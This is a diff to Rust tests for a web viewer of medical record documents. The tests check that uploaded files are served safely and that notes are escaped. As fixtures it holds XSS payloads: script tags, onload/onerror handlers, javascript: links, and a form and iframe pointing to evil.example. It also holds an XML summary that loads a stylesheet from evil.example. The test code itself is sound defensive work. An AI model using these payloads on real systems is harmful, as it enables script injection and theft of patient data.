@@ -29,6 +29,10 @@ fn file(kind: &str, title: &str, bytes: &[u8]) -> Value {
     json!({"contentType": kind, "title": title, "data": base64(bytes)})
 }
 
+/// A summary for the computers of another clinic; what it would say to a browser stays unsaid.
+const CCDA: &str = "<?xml version=\"1.0\"?><?xml-stylesheet type=\"text/xsl\" href=\"https://evil.example/x.xsl\"?>\
+    <ClinicalDocument xmlns=\"urn:hl7-org:v3\"><title>Summary</title></ClinicalDocument>";
+
 const EVIL: &str = "<html><head><title>x</title><script>alert(1)</script></head><body onload='steal()'>\
     <h1>Visit</h1><p onclick=\"steal()\">You are <b>well</b>.</p><iframe src='https://evil.example/'></iframe>\
     <img src=x onerror=alert(2)><a href='javascript:alert(3)'>more</a><form action='https://evil.example'><input name=p></form>\
@@ -91,6 +95,9 @@ async fn files_come_as_they_are_and_under_a_policy() {
                 by_address("Binary/scan"),
                 by_address("https://evil.example/scan.png"),
                 file("image/svg+xml", "drawing.svg", b"<svg onload='alert(1)'/>"),
+                file("application/xml", "Summary for another clinic", CCDA.as_bytes()),
+                file("image/jpeg", "Photo", b"jpeg bytes"),
+                file("application/dicom", "Scan", b"dicom bytes"),
             ],
         );
         let (_world, mut browser) = ana_on(on, vec![binary, papers]).await;
@@ -114,7 +121,22 @@ async fn files_come_as_they_are_and_under_a_policy() {
         assert_eq!((scan.header("content-type"), scan.body.as_str()), ("image/png", "png bytes"));
         let drawing = browser.get("/record/documents/papers/files/3").await;
         assert_eq!(drawing.header("content-type"), "application/octet-stream", "a drawing can act");
-        for wrong in ["2", "4", "-1", "x"] {
+        for (number, shown, how, name) in [
+            (4, "application/octet-stream", "attachment", "Summary-for-another-clinic.xml"),
+            (5, "image/jpeg", "inline", "Photo.jpg"),
+            (6, "application/octet-stream", "attachment", "Scan.dcm"),
+        ] {
+            let file = browser.get(&format!("/record/documents/papers/files/{number}")).await;
+            assert_eq!(file.header("content-type"), shown, "{number}");
+            assert_eq!(file.header("content-disposition"), format!("{how}; filename=\"{name}\""), "{number}");
+        }
+        assert_eq!(browser.get("/record/documents/papers/files/4").await.body, CCDA, "as it was sent");
+        assert!(
+            page.says("This is an XML file.") && page.says("This is a DCM file."),
+            "{}",
+            text(&page.body)
+        );
+        for wrong in ["2", "7", "-1", "x"] {
             assert_eq!(
                 browser.get(&format!("/record/documents/papers/files/{wrong}")).await.status,
                 404,
@@ -145,5 +167,25 @@ async fn letters_with_sections_are_read_in_order() {
         let at = |words: &str| said.find(words).unwrap_or_else(|| panic!("{words}: {said}"));
         assert!(at("What was done") < at("A new knee.") && at("How") < at("Through a small cut."), "{said}");
         assert!(said.contains("Written by Dr. Eva Ruiz") && !page.says("<script>x"), "{said}");
+    }
+}
+
+/// A note in plain text is read on the page with its lines, and saved as a text.
+#[tokio::test]
+async fn a_note_in_plain_text_keeps_its_lines() {
+    let note = "Plan\n\nRest for two weeks.\nThen walk <b>slowly</b>.";
+    for on in databases() {
+        let (_world, mut browser) =
+            ana_on(on, vec![document("note", &[file("text/plain; charset=utf-8", "Note", note.as_bytes())])])
+                .await;
+        let page = browser.get("/record/documents/note").await;
+        assert!(
+            page.says("Rest for two weeks.") && page.says("walk &lt;b&gt;slowly"),
+            "{}",
+            text(&page.body)
+        );
+        let saved = browser.get("/record/documents/note/files/0").await;
+        assert_eq!(saved.header("content-disposition"), "attachment; filename=\"Note.txt\"");
+        assert_eq!(saved.body, note);
     }
 }
